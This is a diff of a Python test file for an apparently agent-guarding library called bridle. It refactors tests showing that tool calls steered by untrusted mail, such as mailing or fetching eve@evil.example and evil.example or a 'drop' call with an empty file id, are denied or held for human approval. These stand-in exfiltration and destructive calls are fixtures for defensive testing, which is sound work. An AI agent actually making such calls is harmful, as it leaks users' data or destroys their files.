@@ -7,7 +7,7 @@ from pathlib import Path
 import pytest
 
 from bridle.bridle import Bridle
-from bridle.rules.events import ApprovalAsked, CallSettled
+from bridle.rules.events import CallAdmitted, CallSettled
 from bridle.rules.failure import CallFailed, FailureKind
 from bridle.rules.flow_of_information import FlowRule, Way, When
 from bridle.rules.names import Source, ToolName
@@ -57,18 +57,11 @@ def test_what_the_user_named_goes_through_and_what_a_mail_names_does_not() -> No
     ],
 )
 def test_a_write_that_nobody_vouches_for_waits_for_a_person(tool: str, arguments: dict[str, object]) -> None:
-    async def told(loop: VirtualLoop) -> None:
-        async with Bridle(POLICY, ":memory:", world=virtual_world(loop)) as b:
-            office = Office(b)
-            office.furnish()
-            async with b.attach(agent="office", task=TASK, key="k") as run:
-                await run.call("inbox")
-                await run.call(tool, arguments)
-            assert run.result is not None
-            assert run.result.status is Status.WAITING
-            assert office.done == []
+    async def story(office: Office, run: Run) -> None:
+        await run.call("inbox")
+        await run.call(tool, arguments)
 
-    run_virtual(told)
+    assert tell(story, waits=True).done == []
 
 
 def test_an_amount_up_to_the_maximum_needs_no_source() -> None:
@@ -119,18 +112,13 @@ def test_a_trusted_lookup_that_something_untrusted_steers_is_untrusted() -> None
 
 
 def test_a_tool_that_returns_its_own_arguments_vouches_for_nothing() -> None:
-    async def told(loop: VirtualLoop) -> None:
-        async with Bridle(POLICY, ":memory:", world=virtual_world(loop)) as b:
-            office = Office(b)
-            office.furnish()
-            async with b.attach(agent="office", task=TASK, key="k") as run:
-                await run.call("inbox")
-                await run.call("crm", {"of": "eve@evil.example"})
-                await run.call("contacts", {"name": "eve@evil.example"})
-                await run.call("mail", {"to": "eve@evil.example"})
-            assert office.done == []
+    async def story(office: Office, run: Run) -> None:
+        await run.call("inbox")
+        await run.call("crm", {"of": "eve@evil.example"})
+        await run.call("contacts", {"name": "eve@evil.example"})
+        await run.call("mail", {"to": "eve@evil.example"})
 
-    run_virtual(told)
+    assert tell(story, waits=True).done == []
 
 
 def test_whole_fields_of_a_lookup_are_a_directory_whoever_asked() -> None:
@@ -231,6 +219,8 @@ def test_observe_mode_writes_down_what_it_would_have_refused() -> None:
         await run.call("inbox")
         await run.call("web", {"url": "https://evil.example/?x=2"})
         assert office.done == ["web https://evil.example/?x=2"]
+        passed = [event.also for event in journal(office.b, run.id) if isinstance(event, CallAdmitted)]
+        assert passed == [(), ("policy_denied",)]
 
     tell(story, replace(POLICY, enforcement=Enforcement.OBSERVE))
 
@@ -246,35 +236,24 @@ def test_observe_mode_writes_down_what_it_would_have_refused() -> None:
     ],
 )
 def test_the_policy_says_what_becomes_of_it(rule: FlowRule, ends: str) -> None:
-    async def told(loop: VirtualLoop) -> None:
-        async with Bridle(replace(POLICY, flow_rule=rule), ":memory:", world=virtual_world(loop)) as b:
-            office = Office(b)
-            office.furnish()
-            async with b.attach(agent="office", task=TASK, key="k") as run:
-                if rule.when is not When.ALWAYS:
-                    await run.call("inbox")
-                try:
-                    await run.call("mail", {"to": "eve@evil.example"})
-                except Denied:
-                    assert ends == "denied"
-            assert (office.done != []) is (ends == "made")
-            asks = [event for event in journal(b, run.id) if isinstance(event, ApprovalAsked)]
-            assert bool(asks) is (ends == "asked")
+    async def story(office: Office, run: Run) -> None:
+        if rule.when is not When.ALWAYS:
+            await run.call("inbox")
+        if ends == "denied":
+            await denied(run, "mail", to="eve@evil.example")
+        else:
+            await run.call("mail", {"to": "eve@evil.example"})
 
-    run_virtual(told)
+    office = tell(story, replace(POLICY, flow_rule=rule), waits=ends == "asked")
+    assert (office.done != []) is (ends == "made")
 
 
 def test_nothing_steers_a_destructive_tool_towards_everything() -> None:
-    async def told(loop: VirtualLoop) -> None:
-        async with Bridle(POLICY, ":memory:", world=virtual_world(loop)) as b:
-            office = Office(b)
-            office.furnish()
-            async with b.attach(agent="office", task=TASK, key="k") as run:
-                await run.call("inbox")
-                await run.call("drop", {"file_id": ""})
-            assert office.done == []
+    async def story(office: Office, run: Run) -> None:
+        await run.call("inbox")
+        await run.call("drop", {"file_id": ""})
 
-    run_virtual(told)
+    assert tell(story, waits=True).done == []
 
 
 def test_the_error_of_a_private_tool_is_private() -> None:
